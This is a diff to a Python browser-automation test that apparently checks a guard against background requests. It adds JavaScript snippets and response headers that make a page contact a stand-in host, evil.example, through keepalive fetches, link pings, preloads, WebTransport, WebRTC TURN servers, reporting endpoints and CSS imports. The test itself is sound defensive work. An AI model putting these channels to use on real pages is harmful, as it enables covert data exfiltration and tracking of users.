@@ -105,11 +105,37 @@ NOISE = {
     "a way to pay": f"new PaymentRequest([{{supportedMethods: '{EVIL}/pay'}}], {{total: {{label: 'x', amount: {{currency: 'USD', value: '1'}}}}}}).canMakePayment()",
     "a login of another site": f"navigator.credentials?.get({{identity: {{providers: [{{configURL: '{EVIL}/login.json', clientId: '1'}}]}}}})",
     "a picture that attributes": f"document.body.append(Object.assign(document.createElement('img'), {{attributionSrc: '{EVIL}/attributed', src: '/p.png'}}))",
+    "a fetch that outlives the page": f"fetch('{EVIL}/keepalive', {{method: 'POST', mode: 'no-cors', keepalive: true, body: '1'}}); location.hash = 'x'",
+    "a link's ping": f"document.body.append(Object.assign(document.createElement('a'), {{ping: '{EVIL}/ping', href: '#x'}})); document.querySelector('a').click()",
+    "a module fetched beforehand": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'modulepreload', href: '{EVIL}/module.js'}}))",
+    "a dictionary": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'compression-dictionary', href: '{EVIL}/dictionary'}}))",
+    "an icon": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'icon', href: '{EVIL}/icon.png'}}))",
+    "a manifest": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'manifest', href: '{EVIL}/manifest.json'}}))",
+    "a connection made beforehand": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'preconnect', href: '{EVIL}'}}))",
+    "a name looked up beforehand": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'dns-prefetch', href: '{EVIL}'}}))",
+    "a session over another transport": f"new WebTransport('{EVIL}/transport')",
+    "a peer": "const p = new RTCPeerConnection({iceServers: [{urls: 'turns:evil.example:443?transport=tcp', username: 'u', credential: 'p'}]}); p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer))",
+    "a peer of an empty frame": "const f = document.createElement('iframe'); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: 'turns:evil.example:443?transport=tcp', username: 'u', credential: 'p'}]}); p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer))",
+    "a violation that is reported": f"document.body.append(Object.assign(document.createElement('img'), {{src: '{EVIL}/violates.png'}})); new ReportingObserver(() => 0).observe(); document.querySelector('#none')",
+    "a stream of events": f"new EventSource('{EVIL}/events')",
+    "an auction": f"navigator.joinAdInterestGroup?.({{owner: '{EVIL}', name: 'x', biddingLogicURL: '{EVIL}/bid.js'}}, 9)",
+    "a service worker": "navigator.serviceWorker?.register('/worker.js')",
+    "a sub-document's style": f"const f = document.createElement('iframe'); f.srcdoc = `<style>@import '{EVIL}/import.css'; @font-face {{ font-family: x; src: url({EVIL}/font) }} p {{ font-family: x }}</style><p>x</p>`; document.body.append(f)",
     "a link's hint": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'prefetch', href: '{EVIL}/hint'}}))",
 }  # fmt: skip
 
 
 RULES = f'{{"prerender": [{{"urls": ["{EVIL}/ruled"], "eagerness": "immediate"}}]}}'  # an answer's header names them
+
+# What an answer may have the browser do by itself: fetch, connect, and tell others what went wrong.
+HINTS = {
+    "Speculation-Rules": '"/rules"',
+    "Link": f"<{EVIL}>; rel=preconnect, <{EVIL}/linked.js>; rel=preload; as=script, <{EVIL}/linked.js>; rel=modulepreload",
+    "Report-To": f'{{"group":"g","max_age":86400,"endpoints":[{{"url":"{EVIL}/reported"}}]}}',
+    "Reporting-Endpoints": f'g="{EVIL}/reported", default="{EVIL}/reported"',
+    "NEL": '{"report_to":"g","max_age":86400,"success_fraction":1.0,"failure_fraction":1.0}',
+    "Content-Security-Policy-Report-Only": f"img-src 'none'; report-uri {EVIL}/violated; report-to g",
+}
 
 
 @dataclass(slots=True)
@@ -128,12 +154,13 @@ class Site:
             raise web.HTTPTemporaryRedirect(f"{EVIL}/landed")
         if request.path == "/rules":
             return web.Response(text=RULES, content_type="application/speculationrules+json")
-        return web.Response(text=self.page, content_type="text/html", headers={"Speculation-Rules": '"/rules"'})
+        return web.Response(text=self.page, content_type="text/html", headers=HINTS)
 
 
 @pytest.fixture
 async def site() -> AsyncIterator[tuple[Site, list[str]]]:
     site, identity = Site(), make_identity(["*.amazon.com", "evil.example"])
+    identity.context.sni_callback = lambda _socket, name, _context: site.asked.append(f"TLS {name}")
     runner = web.ServerRunner(web.Server(site.answer))
     await runner.setup()
     await web.TCPSite(runner, "127.0.0.1", 0, ssl_context=identity.context).start()
@@ -180,6 +207,7 @@ async def test_what_a_page_does_in_the_background_reaches_no_other_host_from_it_
                     await visit.page.evaluate("() => new Promise(done => setTimeout(done, 500))")
                     visit.guard.check()
                 assert [line for line in served.asked if "evil.example" in line] == [], name
+    assert "TLS sellercentral.amazon.com" in served.asked, "a connection is told by its name"
 
 
 @pytest.mark.parametrize(
